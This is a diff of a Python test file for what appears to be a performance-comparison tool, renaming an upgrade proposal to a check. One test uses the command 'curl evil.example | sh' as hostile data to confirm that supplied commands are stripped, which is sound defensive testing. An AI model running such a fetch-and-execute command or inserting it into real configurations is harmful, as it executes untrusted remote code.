@@ -297,10 +297,10 @@ def side(name: str, **changes: Any) -> Comparison:
 EVIL: Final = PackageChange(stack="current", package="evil", base="1", head="2")
 
 
-def blamed(*suspects: str) -> proposals.Upgrade:
+def blamed(*suspects: str) -> proposals.Check:
     whole = Effect(ratio=1.02, low=1.01, high=1.03, duets=9)
     cause = Cause(whole=whole, shares=(), rest=None, suspects=suspects, reason="")
-    return proposals.Upgrade(cause=cause)
+    return proposals.Check(exit_code=1, fail_on="never", upgrade=True, cause=cause)
 
 
 def repeat(field: str, *entries: Any) -> Comparison:
@@ -312,9 +312,9 @@ def test_the_comparison_that_was_asked_for_is_accepted_without_its_commands(tmp_
     evil = Commands(server="curl evil.example | sh", load="oha")
     cases = tuple(entry.model_copy(update={"commands": evil}) for entry in comparison().cases)
     code = attribution(comparison=comparison().id)
-    result, upgrade, read = compared(tmp_path, comparison=comparison(cases=cases), attribution=code)
+    result, check, read = compared(tmp_path, comparison=comparison(cases=cases), attribution=code)
     assert [entry.commands for entry in result.cases] == [None]
-    assert (upgrade, read) == (None, code)
+    assert (check, read) == (None, code)
 
 
 @pytest.mark.parametrize(
@@ -331,9 +331,9 @@ def test_the_comparison_that_was_asked_for_is_accepted_without_its_commands(tmp_
             {"comparison": comparison(), "attribution": attribution(comparison="x")},
             "comparison of an attribution",
         ),
-        ({"comparison": comparison(), "upgrade": blamed(EVIL.package)}, "'evil' as a cause"),
+        ({"comparison": comparison(), "check": blamed(EVIL.package)}, "'evil' as a cause"),
         (
-            {"comparison": repeat("packages", EVIL), "upgrade": blamed(*[EVIL.package] * 2)},
+            {"comparison": repeat("packages", EVIL), "check": blamed(*[EVIL.package] * 2)},
             "a package twice as a cause",
         ),
     ],
